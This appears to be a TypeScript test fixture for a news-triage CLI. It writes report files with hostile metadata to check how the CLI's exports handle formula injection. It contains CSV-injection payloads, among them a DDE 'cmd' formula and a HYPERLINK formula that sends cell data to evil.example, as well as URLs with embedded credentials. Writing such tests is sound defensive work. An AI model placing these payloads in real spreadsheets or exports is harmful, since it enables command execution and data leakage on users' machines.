// A store whose texts were written by an attacker: titles and outlets that start like spreadsheet formulas
// (each of =, +, -, @, TAB, CR), links carrying credentials, ingested by the real CLI from a folder of files.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir, triage } from './harness.ts';

/** Outlet names (sidecar `outlet`, stored as given) that start like a formula. */
export const HOSTILE_OUTLETS = ["=cmd|' /C calc'!A0", '+1+cmd|x', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
export const SECRET = 's3cr3t-pw';

const BODY = `Riverside Valley Hospital in Spokane, Washington, said on Monday that a ransomware attack had taken its
electronic health record system offline, and that clinicians had switched to paper charts while the network was
rebuilt. The hospital said the attackers demanded $2 million in bitcoin and that no payment had been made.

Ambulances were diverted to neighbouring hospitals for three days. The hospital said the personal data of about
48,000 patients may have been copied before the files were encrypted.`;

export interface HostileStore {
  root: string;
  corpus: string;
  db: string;
}

/** Writes the corpus under a fresh temp root and ingests it (and analyses it) into ROOT/store.duckdb. */
export function hostileStore(tag: string): HostileStore {
  const root = tempDir(tag);
  const corpus = join(root, 'corpus');
  mkdirSync(corpus);
  HOSTILE_OUTLETS.forEach((outlet, k) => {
    const name = `report-${k}`;
    const title = k === 0 ? HOSTILE_TITLE : `Report ${k} on the Riverside Valley Hospital attack`;
    writeFileSync(join(corpus, `${name}.txt`), `Published: 2023-03-1${k}\nTitle: ${title}\n\n${BODY}\n`);
    writeFileSync(
      join(corpus, `${name}.meta.json`),
      JSON.stringify({
        outlet,
        url: `https://reporter:${SECRET}@news${k}.example/2023/03/riverside-${k}`,
      }),
    );
  });
  const db = join(root, 'store.duckdb');
  const r = triage(['--db', db, 'ingest', '--dir', corpus, '--workers', '0']);
  if (r.status !== 0) throw new Error(`fixture ingest failed (${r.status}): ${r.stderr}`);
  return { root, corpus, db };
}

/** RFC 4180 records: quoted cells may hold commas, quotes ("") and line breaks. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}
